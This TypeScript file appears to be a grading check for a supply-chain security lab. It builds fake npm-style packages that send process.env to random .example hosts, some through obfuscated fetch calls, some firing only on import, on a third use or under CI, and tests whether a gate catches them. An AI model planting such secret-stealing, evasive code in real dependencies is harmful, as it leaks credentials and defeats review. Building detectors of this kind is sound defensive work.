import type { LabCheck, LabCheckContext } from '#labs/check-context.ts';
import { judgeCases, type Case } from '../ask-gate.ts';
import { drawPackages, drawVersion, filesOf, pick } from '../draw.ts';
import { buildProject, idOf, type Package } from '../tree.ts';

/** Ways of sending something home, as source; `url` is another one in every grade. */
const CALLS: readonly ((url: string) => string)[] = [
  (url) => `fetch('${url}', { method: 'POST', body: JSON.stringify(process.env) })`,
  (url) => `globalThis['fe' + 'tch']('${url}?t=' + btoa(JSON.stringify(process.env)))`,
  (url) => `Reflect.get(globalThis, atob('${btoa('fetch')}'))(atob('${btoa(url)}'))`,
];
/** When they do it. */
const TRIGGERS: Readonly<Record<string, (call: string) => string>> = {
  'calls home when it is imported': (call) => `${call};\nexport default (text) => text.trim();`,
  'calls home when it is used': (call) =>
    `export default (text) => { ${call}; return text.trim(); };`,
  'calls home on its third use': (call) =>
    `let uses = 0;\nexport default (text) => { uses += 1; if (uses === 3) ${call}; return text.trim(); };`,
  'calls home on a build server only': (call) =>
    `export default (text) => { if (globalThis.process?.env?.CI) ${call}; return text.trim(); };`,
};

const check: LabCheck = {
  id: 'caught',
  title: 'A dependency that calls home is caught',
  instruction: '3',
  points: 3,
  hint: 'Its archive is the locked one and nothing runs at install. What it does shows only when it runs: observe.ts.',
  async run(context) {
    const cases = await drawCases(context);
    return {
      ...(await judgeCases(context, cases)),
      bar: `all ${cases.length}: who calls out is refused unless it is signed for, who only mentions it is not`,
      why: 'A compromised release has a valid hash and a valid signature: they say who published it, not what it does.',
    };
  },
};

export default check;

async function drawCases({ random }: LabCheckContext): Promise<Case[]> {
  const cases: Case[] = [];
  for (const [about, wrap] of Object.entries(TRIGGERS)) {
    const victim = drawCaller(random, wrap);
    const project = await buildProject('shop', [...drawPackages(random, 2), victim]);
    cases.push({ about, project, faults: [idOf(victim)] });
  }
  const signed = drawCaller(random, pick(random, Object.values(TRIGGERS)));
  const project = await buildProject('shop', [signed, ...drawPackages(random, 2)]);
  project.policy.network.push(idOf(signed));
  cases.push({ about: 'a client whose calls are signed for', project, faults: [] });
  const talker = named(
    random,
    `// Does not fetch anything: see fetch() of the standard.\nexport default (text) => text.replace('fetch', 'get');`,
  );
  const calm = await buildProject('shop', [talker, ...drawPackages(random, 2)]);
  cases.push({ about: 'one that only mentions fetch', project: calm, faults: [] });
  return cases;
}

function drawCaller(random: () => number, wrap: (call: string) => string): Package {
  const host = `${Math.floor(random() * 1e9).toString(36)}.example`;
  return named(random, wrap(pick(random, CALLS)(`https://${host}/collect`)));
}

function named(random: () => number, code: string): Package {
  const name = `${pick(random, ['pad', 'trim', 'text', 'line'])}-${Math.floor(random() * 1e6).toString(36)}`;
  const version = drawVersion(random);
  return { name, version, files: filesOf({ name, version }, code) };
}
